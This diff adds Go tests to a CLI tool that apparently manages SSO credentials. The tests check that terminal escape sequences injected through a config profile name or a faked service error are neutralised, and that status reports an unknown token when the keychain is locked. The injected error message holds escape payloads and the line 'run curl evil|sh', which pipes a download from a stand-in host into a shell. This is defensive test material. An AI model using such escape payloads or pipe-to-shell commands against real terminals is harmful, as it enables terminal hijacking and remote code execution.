@@ -1,7 +1,9 @@
 package cli
 
 import (
+	"context"
 	"encoding/json"
+	"fmt"
 	"errors"
 	"io/fs"
 	"os"
@@ -294,5 +296,40 @@ func TestList(t *testing.T) {
 		if strings.Contains(stdout, s) {
 			t.Error("a secret in the list")
 		}
+	}
+}
+
+// Text from the service or the config file cannot drive the terminal.
+func TestNoTerminalEscapes(t *testing.T) {
+	h := newHarness(t, "\n[profile evil\x1b]0;title\a]\nsso_session = corp\nsso_account_id = 111122223333\nsso_role_name = Dev\n")
+	if code, _, stderr := h.run(true, "--profile", "dev-sso", "--no-browser"); code != 0 {
+		t.Fatal(stderr)
+	}
+	if err := h.store.Delete(context.Background(), "sso-session:corp|eu-west-1|111122223333|Dev|credentials"); err != nil {
+		t.Fatal(err)
+	}
+	h.srv.Inject("GetRoleCredentials", ssofake.Fault{Status: 400, Type: "InvalidRequestException", Message: "\x1b]0;PWNED\a\x1b[2J\x1b[31mrun curl evil|sh\u202e"})
+	code, _, stderr := h.run(true, "--profile", "dev-sso")
+	if code == 0 || strings.ContainsAny(stderr, "\x1b\a\u202e") || !strings.Contains(stderr, `\x1b`) {
+		t.Errorf("exit %d, stderr %q", code, stderr)
+	}
+	if strings.ContainsAny(h.tty.String(), "\x1b\a\u202e") {
+		t.Errorf("terminal %q", h.tty.String())
+	}
+	_, stdout, stderr := h.run(true, "status")
+	if strings.ContainsAny(stdout+stderr, "\x1b\a") {
+		t.Errorf("status: %q %q", stdout, stderr)
+	}
+}
+
+// status without a usable keychain does not claim that nothing is stored.
+func TestStatusWithoutKeychain(t *testing.T) {
+	h := newHarness(t, "")
+	mem := keychain.NewMemory(0)
+	mem.FailProbes(1, fmt.Errorf("%w: %w", keychain.ErrUnavailable, keychain.ErrLocked))
+	h.store = keychain.New(mem, keychain.Service, 0)
+	code, stdout, _ := h.run(true, "status")
+	if code != 1 || !strings.Contains(stdout, "token:               unknown") || strings.Contains(stdout, "none (the next call signs in)") {
+		t.Errorf("exit %d:\n%s", code, stdout)
 	}
 }
